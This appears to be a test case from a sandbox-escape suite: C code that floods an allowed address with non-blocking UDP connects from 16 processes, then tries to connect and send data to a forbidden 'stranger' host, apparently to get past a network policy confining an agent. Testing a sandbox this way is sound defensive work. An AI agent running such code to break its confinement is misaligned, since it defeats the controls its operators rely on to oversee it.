// escape: has 16 processes connect all their descriptors at once without waiting, then connects elsewhere
// group: the agent itself
// policy: network
// attempts: 2000
#include "escape.h"

static void attack(void) {
  struct sockaddr_in to = stranger(), allowed = the_friend();
  for (int i = 0; i < 16; i++) {
    if (!beside()) continue;
    for (;;) {
      int sockets[200];
      for (int k = 0; k < 200; k++) {
        sockets[k] = open_socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK);
        connect(sockets[k], ADDRESS(allowed));
      }
      for (int k = 0; k < 200; k++) close(sockets[k]);
    }
  }
  const int fd = udp(AF_INET);
  while (more()) {
    if (connect(fd, ADDRESS(to)) == 0) send(fd, "x", 1, 0);
  }
}
